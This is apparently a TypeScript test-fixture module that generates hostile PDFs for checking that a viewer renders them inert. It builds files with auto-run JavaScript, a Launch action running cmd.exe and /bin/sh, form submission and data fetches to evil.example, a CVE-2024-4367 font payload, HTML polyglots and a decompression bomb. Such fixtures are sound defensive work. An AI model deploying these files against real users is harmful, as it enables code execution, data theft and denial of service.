import { deflateSync } from 'node:zlib';
import { element, kept, script, text, type HostileFile } from './script.ts';

const escaped = script.replace(/[()\\]/g, '\\$&');
const javascript = `<</S/JavaScript/JS(${escaped})>>`;

/** A page with text; `catalog`, `page` and `more` add the hostile parts. */
const pdf = (
  catalog: string,
  {
    page = '',
    more = [],
    resources = '',
    content = 'BT /F1 18 Tf 60 760 Td (Befund) Tj ET',
  }: { page?: string; more?: readonly string[]; resources?: string; content?: string } = {},
): Buffer => {
  const objects = [
    `<</Type/Catalog/Pages 2 0 R ${catalog}>>`,
    '<</Type/Pages/Kids[3 0 R]/Count 1>>',
    `<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Contents 4 0 R/Resources<</Font<</F1 5 0 R>>${resources}>>${page}>>`,
    `<</Length ${content.length}>>stream\n${content}\nendstream`,
    '<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>',
    ...more,
  ];
  let body = '%PDF-1.7\n';
  const places = objects.map((object, index) => {
    const at = body.length;
    body += `${index + 1} 0 obj\n${object}\nendobj\n`;
    return `${String(at).padStart(10, '0')} 00000 n \n`;
  });
  return text(
    `${body}xref\n0 ${objects.length + 1}\n0000000000 65535 f \n${places.join('')}trailer<</Root 1 0 R/Size ${objects.length + 1}>>\nstartxref\n${body.length}\n%%EOF\n`,
  );
};
const stream = (dictionary: string, content: string) =>
  `<<${dictionary}/Length ${content.length}>>stream\n${content}\nendstream`;
const onOpening = (action: string) => pdf(`/OpenAction ${action}`);
const link = (action: string) =>
  pdf('', { page: `/Annots[<</Type/Annot/Subtype/Link/Rect[0 0 595 842]/A ${action}>>]` });
const field = (rest: string) =>
  pdf('/AcroForm<</Fields[6 0 R]/NeedAppearances true>>', {
    page: '/Annots[6 0 R]',
    more: [`<</Type/Annot/Subtype/Widget/FT/Tx/T(a)/Rect[10 10 200 40]/V(x)${rest}>>`],
  });
const bomb = deflateSync(Buffer.alloc(30_000_000, ' '), { level: 9 }).toString('latin1');
const hostileFont = `<</Type/Font/Subtype/Type1/BaseFont/Evil/FontMatrix[1 2 3 4 5 (1\\); ${escaped}\\/\\/)]/FontDescriptor<</Type/FontDescriptor/FontName/Evil/Flags 4>>>>`;

/** PDFs with active content, which must be rendered as pages only. */
export const pdfFiles = (): HostileFile[] => [
  kept('PDF: JavaScript on opening', 'oeffnen.pdf', onOpening(javascript)),
  kept('PDF: JavaScript in its names', 'namen.pdf', pdf(`/Names<</JavaScript<</Names[(a)${javascript}]>>>>`)),
  kept('PDF: JavaScript when a page opens', 'seite.pdf', pdf('', { page: `/AA<</O${javascript}/C${javascript}>>` })),
  kept(
    'PDF: JavaScript before printing and closing',
    'drucken.pdf',
    pdf(`/AA<</WP${javascript}/WC${javascript}/DP${javascript}>>`),
  ),
  kept(
    'PDF: JavaScript in a field',
    'feld.pdf',
    field(`/AA<</K${javascript}/F${javascript}/V${javascript}/C${javascript}>>`),
  ),
  kept('PDF: opens an address', 'adresse.pdf', onOpening('<</S/URI/URI(https://evil.example/open)>>')),
  kept('PDF: a javascript: address under the whole page', 'flaeche.pdf', link(`<</S/URI/URI(javascript:${escaped})>>`)),
  kept('PDF: starts a program', 'start.pdf', onOpening('<</S/Launch/Win<</F(cmd.exe)/P(/c calc)>>/F(/bin/sh)>>')),
  kept(
    'PDF: sends a form',
    'formular.pdf',
    onOpening('<</S/SubmitForm/F<</FS/URL/F(https://evil.example/form)>>/Flags 4>>'),
  ),
  kept('PDF: fetches data', 'daten.pdf', onOpening('<</S/ImportData/F(\\\\\\\\evil.example\\\\x.fdf)>>')),
  kept('PDF: goes to another file', 'sprung.pdf', onOpening('<</S/GoToR/F(\\\\\\\\evil.example\\\\x.pdf)/D[0/Fit]>>')),
  kept('PDF: goes to a file inside', 'innen.pdf', onOpening('<</S/GoToE/T<</R/C/N(x.html)>>/D[0/Fit]>>')),
  kept(
    'PDF: plays a film from elsewhere',
    'film.pdf',
    pdf('', {
      page: '/Annots[<</Type/Annot/Subtype/Movie/Rect[0 0 100 100]/Movie<</F(https://evil.example/m.avi)>>/A true>>]',
    }),
  ),
  kept(
    'PDF: rich media',
    'medien.pdf',
    pdf('', {
      page: '/Annots[<</Type/Annot/Subtype/RichMedia/Rect[0 0 100 100]/RichMediaSettings<</Activation<</Condition/PO>>>>>>]',
    }),
  ),
  kept(
    'PDF: a web page attached',
    'anlage.pdf',
    pdf('/Names<</EmbeddedFiles<</Names[(x.html)<</Type/Filespec/F(x.html)/EF<</F 6 0 R>>>>]>>>>', {
      more: [stream('/Type/EmbeddedFile/Subtype/text#2Fhtml', element)],
    }),
  ),
  kept(
    'PDF: an XFA form with script',
    'xfa.pdf',
    pdf('/AcroForm<</Fields[]/XFA 6 0 R>>', {
      more: [
        stream(
          '',
          `<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><script contentType="application/x-javascript">${script}</script></xdp:xdp>`,
        ),
      ],
    }),
  ),
  kept(
    'PDF: script in a font (CVE-2024-4367)',
    'schrift.pdf',
    pdf('', { more: [hostileFont], resources: '/ExtGState<<>>', page: '/Resources<</Font<</F1 6 0 R>>>>' }),
  ),
  kept(
    'PDF: script in title and author',
    'titel.pdf',
    pdf(`/Metadata 6 0 R/Lang(${element.replace(/[()\\]/g, '\\$&')})`, {
      more: [stream('/Type/Metadata/Subtype/XML', element)],
    }),
  ),
  kept('PDF: a web page behind it', 'dahinter.pdf', Buffer.concat([pdf(''), text(element)])),
  kept(
    'PDF: a web page in a remark',
    'bemerkung.pdf',
    Buffer.concat([text(`%PDF-1.7\n%${element}\n`), pdf('').subarray(9)]),
  ),
  kept(
    'PDF: thirty megabytes of blanks in a page',
    'gross.pdf',
    pdf('', { more: [stream('/Filter/FlateDecode', bomb)], page: '/Contents 6 0 R' }),
  ),
  kept(
    'PDF: pages that contain themselves',
    'kreis.pdf',
    pdf('/Outlines 1 0 R', { page: '/Kids[2 0 R 3 0 R]/Count 9999' }),
  ),
  kept('PDF: only a beginning', 'anfang.pdf', text(`%PDF-1.7\n${element}`)),
];
